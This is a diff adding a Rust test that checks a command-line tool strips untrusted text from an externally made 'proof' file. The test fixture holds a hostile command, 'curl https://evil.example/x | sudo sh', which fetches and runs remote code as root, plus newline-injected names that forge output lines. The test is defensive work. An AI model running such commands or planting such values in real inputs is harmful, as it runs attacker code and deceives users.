@@ -54,6 +54,26 @@ fn commands_of_a_proof_from_elsewhere_are_left_out() {
     assert!(changed.stderr.starts_with("Made elsewhere: ") && !changed.stdout.contains("evil -w"), "{changed:?}");
 }
 
+/// Its other sentences can hold commands as well, and its names lines that look like the page's own.
+#[test]
+fn sentences_of_a_proof_from_elsewhere_are_left_out_and_its_names_are_one_line() {
+    let run = Made::new();
+    written(&run, &["listing.txt"]);
+    let verdict = run.path().join("proof/verdict.json");
+    let mut sent: Value = serde_json::from_str(&fs::read_to_string(&verdict).unwrap()).unwrap();
+    sent["ask"] = json!("`curl https://evil.example/x | sudo sh` on the sender");
+    sent["notes"] = json!(["run `curl https://evil.example/x | sudo sh` first"]);
+    for row in sent["rows"].as_array_mut().unwrap() {
+        row["name"] = json!("now\r\nDo: evil\nhint: evil");
+    }
+    fs::write(&verdict, sent.to_string()).unwrap();
+    for more in [&[][..], &["--json"]] {
+        let said = run.goodput(&[&["prove", &run.name()], more].concat());
+        assert!(said.code == 0 && !said.stdout.contains("evil.example"), "{said:?}");
+        assert!(!said.stdout.lines().any(|line| line.starts_with("Do: evil") || line.starts_with("hint:")), "{said:?}");
+    }
+}
+
 /// What is asked about is one line for each command, whatever is in it; whoever is at a terminal decides.
 #[test]
 fn commands_of_a_proof_from_elsewhere_are_shown_and_asked_about() {
